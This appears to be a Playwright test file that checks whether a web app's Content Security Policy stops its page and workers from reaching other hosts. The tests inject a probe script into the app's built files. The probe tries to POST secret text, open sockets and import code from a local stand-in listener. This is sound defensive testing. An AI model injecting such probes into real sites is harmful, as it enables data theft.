// That no text can leave the device, asked of every place where code runs: what would carry one
// to another host is put into the page's own scripts, and that host listens.

import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { readFileSync } from "node:fs";
import path from "node:path";
import { dist } from "../../scripts/build.mjs";
import { App, type Page, expect, twoClasses } from "./page.ts";
import { test as base } from "./site.ts";

/** A host that is not the page's, and what has come to it. */
interface Stranger {
  url: string;
  heard: string[];
}

/** The page as a person knows it, without the watch that all other tests keep over where it asks. */
const test = base.extend<{ stranger: Stranger; unwatched: App }>({
  unwatched: async ({ page }, use) => use(new App(page)),
  // oxlint-disable-next-line no-empty-pattern -- what Playwright gives is told by this pattern
  stranger: async ({}, use) => {
    const heard: string[] = [];
    const server: Server = createServer((request, response) => {
      let body = "";
      request.on("data", (part: Buffer) => (body += part.toString()));
      request.on("end", () => {
        heard.push(`${request.method} ${request.url} ${body}`);
        const headers = { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" };
        response.writeHead(200, headers).end("export {}");
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    await use({ url: `http://127.0.0.1:${port}/`, heard });
    await new Promise((resolve) => server.close(resolve));
  },
});

/** Tries every way out, and tells by a channel which were open. */
function probe(place: string, stranger: string): string {
  const attempt = async (place: string, stranger: string) => {
    const open: string[] = [];
    const secret = `${stranger}?secret`;
    const ways: Record<string, () => unknown> = {
      post: () => fetch(secret, { method: "POST", mode: "no-cors", body: "a secret text" }),
      get: () => fetch(secret),
      // oxlint-disable-next-line typescript/no-implied-eval -- whether it is forbidden is what is asked
      eval: () => new Function("return 1")(),
      socket: () => arrival(new WebSocket(secret.replace("http", "ws")), "open"),
      events: () => arrival(new EventSource(secret), "open"),
      import: () => import(/* @vite-ignore */ secret),
    };
    /** @param target - rejects when it fails */
    function arrival(target: EventTarget, event: string): Promise<unknown> {
      return new Promise((resolve, reject) => {
        target.addEventListener(event, resolve);
        target.addEventListener("error", reject);
        target.addEventListener("close", reject);
      });
    }
    for (const [name, way] of Object.entries(ways)) {
      try {
        await way();
        open.push(name);
      } catch {
        // As it must be.
      }
    }
    // Again and again, as who listens may come later.
    const channel = new BroadcastChannel("probe");
    setInterval(() => channel.postMessage({ place, open }), 100);
  };
  return `void (${attempt.toString()})(${JSON.stringify(place)}, ${JSON.stringify(stranger)});`;
}

/** What a place tells of the ways out that were open to it. */
function told(page: Page, place: string): Promise<string[]> {
  return page.evaluate(
    (place) =>
      new Promise<string[]>((resolve) => {
        new BroadcastChannel("probe").addEventListener("message", ({ data }) => {
          const { place: from, open } = data as { place: string; open: string[] };
          if (from === place) resolve(open);
        });
      }),
    place,
  );
}

test(
  "neither the page nor its workers can reach another host",
  { tag: "@firefox" },
  async ({ unwatched: app, page, site, stranger }) => {
    site.tamper("index-", probe("page", stranger.url));
    site.tamper("worker-", probe("worker", stranger.url));
    site.tamper("reading-worker-", probe("reader of files", stranger.url));
    await app.open();
    expect(await told(page, "page")).toEqual([]);
    expect(await told(page, "worker")).toEqual([]);
    await app.chooseFile("texts.txt", "good\tlovely\nbad\tawful");
    expect(await told(page, "reader of files")).toEqual([]);
    // From what the browser keeps, too.
    await app.keptForLater();
    await app.reload();
    expect(await told(page, "worker")).toEqual([]);
    expect(stranger.heard).toEqual([]);
  },
);

test(
  "the service worker keeps to its own host",
  { tag: "@firefox" },
  async ({ unwatched: app, page, site, stranger }) => {
    site.tamper("offline", probe("service worker", stranger.url));
    await app.open();
    // A worker's own policy is its host's to send; that it may evaluate code, the page cannot forbid.
    expect(await told(page, "service worker")).toEqual(["eval"]);
    expect(stranger.heard).toEqual([]);
  },
);

test("what the service worker serves has the page's policy", async ({ unwatched: app, page }) => {
  await app.open();
  await app.keptForLater();
  const response = await page.reload();
  expect(response?.fromServiceWorker()).toBe(true);
  expect(await response?.headerValue("content-security-policy")).toContain("default-src 'none'");
});

/** What a host that can send headers is to send. */
function headers(): Record<string, string> {
  const [, ...lines] = readFileSync(path.join(dist, "_headers"), "utf8").trim().split("\n");
  return Object.fromEntries(lines.map((line) => /^ {2}([\w-]+): (.*)$/.exec(line)?.slice(1) ?? []));
}

test("the built page states the policy that is written down for hosts", async ({ unwatched: app, page }) => {
  await app.open();
  const stated = await page.evaluate(() =>
    document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content.split("; "),
  );
  const { "Content-Security-Policy": sent = "", ...others } = headers();
  expect(sent.split("; ")).toEqual([...(stated ?? []), "frame-ancestors 'none'"]);
  expect(others).toEqual({ "Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff" });
  expect(stated).toEqual([
    "default-src 'none'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "worker-src 'self' blob:",
    "connect-src 'self'",
    "img-src 'self' data: blob:",
    "style-src 'self'",
    "manifest-src 'self'",
    "base-uri 'none'",
    "form-action 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types handful lit-html",
  ]);
});

test("a host that sends these headers with every file serves a page that works", async ({
  unwatched: app,
  page,
  site,
}) => {
  const stopped: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error") stopped.push(message.text());
  });
  Object.assign(site.headers, headers());
  const answer = await page.request.get("./");
  expect(answer.headers()["referrer-policy"]).toBe("no-referrer");
  await app.open({ epochs: 2 });
  await app.paste(twoClasses(8));
  await app.train();
  await app.trial.fill("lovely and clean");
  await expect(app.prediction).toBeVisible();
  expect(stopped).toEqual([]);
});
